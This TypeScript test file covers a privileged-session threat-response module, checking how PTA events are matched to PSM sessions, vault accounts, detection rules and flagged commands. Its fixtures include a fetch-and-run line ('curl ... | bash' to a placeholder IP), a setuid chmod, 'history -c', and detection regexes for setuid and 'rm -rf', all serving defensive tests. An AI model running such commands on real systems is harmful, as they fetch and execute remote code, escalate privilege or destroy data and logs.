import assert from 'node:assert/strict';
import type { VaultAccountDetails } from '../../src/api/resources/accounts';
import { PsmSession, readPsmSession } from '../../src/api/resources/psmSessions';
import { readPtaSettings } from '../../src/api/resources/ptaSettings';
import { normalizeEvent } from '../../src/model/ptaEvent';
import { accountLookupOf, pickSearchedAccount } from '../../src/respond/accountLookup';
import { credentialChangeSinceEvent } from '../../src/respond/credentialChange';
import { flaggedActivityIndexes } from '../../src/respond/flaggedActivity';
import { automaticRemediationFor, ruleForEvent } from '../../src/respond/ptaRules';
import { matchSessions } from '../../src/respond/sessionMatching';
import { generateEvents, HOSTILE_STRINGS } from '../simulator/data';
import { buildRespondData } from '../simulator/respondData';
import { NOW, psmEvent } from '../support/psmEvent';

const AUDIT_TIME = NOW - 3_600_000;

function session(overrides: Partial<PsmSession> = {}): PsmSession {
  return {
    sessionId: 'a',
    user: 'jsmith',
    accountUsername: 'Administrator',
    accountAddress: '10.1.109.150',
    fromIp: '10.25.171.60',
    start: AUDIT_TIME - 600_000,
    ...overrides,
  };
}

describe('Respond: matching an event to what stands behind it', () => {
  describe('PSM sessions', () => {
    it('finds the right session among several, best first, and never an unrelated one', () => {
      const best = session({ sessionId: 'best' });
      const noFromIp = session({ sessionId: 'other-ip', fromIp: '10.9.9.9' });
      const otherMachine = session({ sessionId: 'same-user-other-machine', accountAddress: '10.7.7.7' });
      const otherUser = session({ sessionId: 'other-user', user: 'lchen' });
      const startedAfter = session({ sessionId: 'started-after', start: NOW });
      const matches = matchSessions(psmEvent(), [otherUser, noFromIp, otherMachine, startedAfter, best]);
      assert.deepEqual(matches.map((m) => m.session.sessionId), ['best', 'other-ip']);
      assert.deepEqual([matches[0].accountUserAgrees, matches[0].fromIpAgrees, matches[0].startedBeforeAudit], [true, true, true]);
      assert.equal(matches[1].fromIpAgrees, false);
    });

    it('knows the target host in any of its forms, without case', () => {
      for (const address of ['10.1.109.150', 'DC-PROD-05', 'dc-prod-05.corp.example.com', 'Dc-Prod-05.other.domain']) {
        assert.equal(matchSessions(psmEvent(), [session({ accountAddress: address })]).length, 1, address);
      }
      assert.equal(matchSessions(psmEvent(), [session({ accountAddress: 'corp.example.com', remoteMachine: 'dc-prod-05' })]).length, 1);
      assert.equal(matchSessions(psmEvent(), [session({ accountAddress: '10.1.109.15' })]).length, 0);
    });

    it('requires the user: the same machine and account under another vault user is no match', () => {
      assert.deepEqual(matchSessions(psmEvent(), [session({ user: undefined }), session({ user: 'jsmith2' })]), []);
    });

    it('breaks ties by the latest start, then by id, the same way every time', () => {
      const sessions = [session({ sessionId: 'b', start: AUDIT_TIME - 5000 }), session({ sessionId: 'c', start: AUDIT_TIME - 1000 }), session({ sessionId: 'a', start: AUDIT_TIME - 5000 })];
      const order = matchSessions(psmEvent(), sessions).map((m) => m.session.sessionId);
      assert.deepEqual(order, ['c', 'a', 'b']);
      assert.deepEqual(matchSessions(psmEvent(), [...sessions].reverse()).map((m) => m.session.sessionId), order);
    });

    it('matches nothing for hostile text and for an event without PSM parties', () => {
      const hostile = HOSTILE_STRINGS.map((text, index) => session({ sessionId: `h${index}`, user: text, accountAddress: text, fromIp: text }));
      assert.deepEqual(matchSessions(psmEvent(), hostile), []);
      const bare = normalizeEvent({ id: 'x', lastUpdateTime: NOW, mStatus: 'OPEN', audits: [{}, null, 'text'] })!;
      assert.deepEqual(matchSessions(bare, [session()]), []);
      assert.equal(readPsmSession({ User: { toString: 'x' }, Start: 'soon', CanTerminate: 'yes' })?.user, undefined);
    });

    it("finds each of the simulator's live sessions from its event, and no event's for the unrelated ones", () => {
      const raw = generateEvents({ count: 400, seed: 3, now: NOW });
      const data = buildRespondData(raw, { signInUsers: ['analyst'], now: NOW });
      const live = data.liveSessions.map((s) => readPsmSession(s.record)!);
      const tied = data.liveSessions.filter((s) => s.eventId);
      assert.ok(tied.length >= 1);
      for (const sim of tied) {
        const event = normalizeEvent(raw.find((e) => e.id === sim.eventId))!;
        assert.equal(matchSessions(event, live)[0]?.session.sessionId, sim.record.SessionID);
      }
      const unrelatedIds = new Set(data.liveSessions.filter((s) => !s.eventId).map((s) => s.record.SessionID));
      for (const rawEvent of raw.filter((e) => e.type === 'PSMSuspiciousActivity')) {
        const matched = matchSessions(normalizeEvent(rawEvent)!, live);
        assert.ok(!matched.some((m) => unrelatedIds.has(m.session.sessionId)), rawEvent.id);
      }
    });
  });

  describe('the account', () => {
    it('is looked up by accountId when an audit has one', () => {
      assert.deepEqual(accountLookupOf(psmEvent()), { kind: 'byId', accountId: '31_1' });
    });

    it('else by search on the account user and address', () => {
      const event = normalizeEvent({
        id: 'x', lastUpdateTime: NOW, mStatus: 'OPEN',
        audits: [{ vaultUser: 'jsmith', account: { accountAsStr: 'root@web-01', account: { mUser: 'root', mTarget: 'web-01.corp.example.com' } } }],
      })!;
      const lookup = accountLookupOf(event);
      assert.deepEqual(lookup, { kind: 'bySearch', words: 'root web-01.corp.example.com', user: 'root', address: 'web-01.corp.example.com' });
      if (lookup?.kind !== 'bySearch') return;
      const account = (id: string, userName: string, address: string): VaultAccountDetails => ({ id, userName, address });
      assert.equal(pickSearchedAccount(lookup, [account('1', 'root', 'web-02'), account('2', 'ROOT', 'Web-01.corp.example.com')])?.id, '2');
      assert.equal(pickSearchedAccount(lookup, [account('1', 'root', 'elsewhere')])?.id, '1');
      assert.equal(pickSearchedAccount(lookup, [account('1', 'root', 'a'), account('2', 'root', 'b')]), undefined);
      assert.equal(pickSearchedAccount(lookup, [account('1', 'oracle', 'web-01.corp.example.com')]), undefined);
    });

    it('is none when the event names no account', () => {
      assert.equal(accountLookupOf(normalizeEvent({ id: 'x', lastUpdateTime: NOW, mStatus: 'OPEN', audits: [{ vaultUser: 'a' }] })!), undefined);
    });

    it('says whether the credential changed after the last audit', () => {
      const event = psmEvent();
      const lastAudit = NOW - 3_000_000;
      assert.equal(credentialChangeSinceEvent(event, { lastModifiedTime: lastAudit + 1 }), 'changedSince');
      assert.equal(credentialChangeSinceEvent(event, { lastModifiedTime: lastAudit }), 'notChangedSince');
      assert.equal(credentialChangeSinceEvent(event, {}), 'unknown');
    });
  });

  describe('the rule that fired', () => {
    const settings = readPtaSettings({
      riskyActivities: [
        { id: 'off', regex: 'chmod [0-7]*4[0-7]{3}', active: false, description: 'old' },
        { id: 'on', regex: 'chmod [0-7]*4[0-7]{3}', active: true, description: '<b>setuid</b>', score: 80, response: 'TERMINATE' },
        { id: 'other', regex: 'rm -rf', active: true },
        'not a rule',
        null,
      ],
      automaticRemediations: { changePassword_SuspectedCredentialsTheft: true, changePassword_OverPassTheHash: true },
      automaticRemediation: { changePassword_OverPassTheHash: false },
    });

    it('is the PTA rule whose regex is the matchPatterns, an active one first', () => {
      const rule = ruleForEvent(psmEvent(), settings);
      assert.deepEqual([rule?.id, rule?.description, rule?.score, rule?.response], ['on', '<b>setuid</b>', 80, 'TERMINATE']);
      assert.equal(ruleForEvent(psmEvent({ additionalData: { matchPatterns: 'nothing like it' } }), settings), undefined);
      assert.equal(ruleForEvent(psmEvent({ additionalData: null }), settings), undefined);
    });

    it('reads automatic remediation under both spellings, for the types PTA remediates', () => {
      const theft = psmEvent({ type: 'SuspectedCredentialsTheft' });
      assert.deepEqual(automaticRemediationFor(theft, settings), { key: 'changePassword_SuspectedCredentialsTheft', enabled: true });
      assert.deepEqual(automaticRemediationFor(psmEvent({ type: 'OverPassTheHash' }), settings), { key: 'changePassword_OverPassTheHash', enabled: false });
      assert.deepEqual(automaticRemediationFor(psmEvent({ type: 'UnmanagedPrivilegedAccount' }), settings), { key: 'pendAccount_UnmanagedPrivilegedAccount', enabled: undefined });
      assert.equal(automaticRemediationFor(psmEvent(), settings), undefined);
      assert.equal(automaticRemediationFor(psmEvent({ type: '__proto__' }), settings), undefined);
    });
  });

  describe("the event's flagged command among a session's activities", () => {
    it('marks the activities holding an audit command or matching the rule, and only them', () => {
      const activities = [{ text: 'whoami' }, { text: 'chmod 4755 /tmp/x' }, { text: 'curl -s http://203.0.113.9/i.sh | bash' }, {}, { text: 'ls' }];
      assert.deepEqual(flaggedActivityIndexes(psmEvent(), activities), [1, 2]);
    });

    it('survives hostile activities and a regex that does not compile', () => {
      const activities = HOSTILE_STRINGS.map((text) => ({ text }));
      assert.deepEqual(flaggedActivityIndexes(psmEvent({ additionalData: { matchPatterns: '([unclosed' } }), activities), []);
      // Nested quantifiers backtrack exponentially: such a pattern is not run, the commands still mark.
      const event = psmEvent({ additionalData: { matchPatterns: '(a+)+$' } });
      assert.deepEqual(flaggedActivityIndexes(event, [{ text: `${'a'.repeat(5000)}!` }, { text: 'history -c' }]), [1]);
    });
  });
});
